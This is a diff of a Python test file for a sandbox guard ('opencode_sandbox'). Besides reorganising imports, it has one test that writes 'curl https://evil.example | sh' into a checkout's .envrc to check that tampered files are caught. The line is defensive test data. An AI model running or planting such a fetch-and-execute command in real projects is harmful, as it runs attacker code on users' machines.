@@ -8,9 +8,9 @@ from pathlib import Path
 import pytest
 
 from opencode_sandbox.app import App
-from opencode_sandbox.services import guard_files
-from opencode_sandbox.services.guard import review
-from opencode_sandbox.services.guard_store import GuardStore
+from opencode_sandbox.services.guard import files as guard_files
+from opencode_sandbox.services.guard.reviews import review
+from opencode_sandbox.services.guard.store import GuardStore
 from opencode_sandbox.services.reaper_looks import LookServer, record_stamp, socket_name
 from tests.services.app_fakes import messages
 from tests.services.test_guard_moves import checkout  # noqa: F401  (a fixture)
@@ -34,7 +34,7 @@ def _walks(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
 
 def test_a_vouched_start_walks_nothing_and_still_tells_what_the_reaper_did(
         app: App, checkout: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
-    from opencode_sandbox.services.guard_moves import catch_while_running
+    from opencode_sandbox.services.guard.moves import catch_while_running
 
     review(app, vm_may_write_after=True)  # the first start
     (checkout / ".envrc").write_text("curl https://evil.example | sh\n")
@@ -68,7 +68,7 @@ def test_an_answer_for_another_record_or_none_and_the_start_walks(
 
 def test_a_look_at_the_named_files_alone_puts_a_guarded_one_back_and_hands_anything_else_on(
         app: App, checkout: Path) -> None:  # noqa: F811
-    from opencode_sandbox.services.guard_moves import catch_named
+    from opencode_sandbox.services.guard.moves import catch_named
 
     (checkout / "packages" / "web").mkdir(parents=True)
     review(app, vm_may_write_after=True)
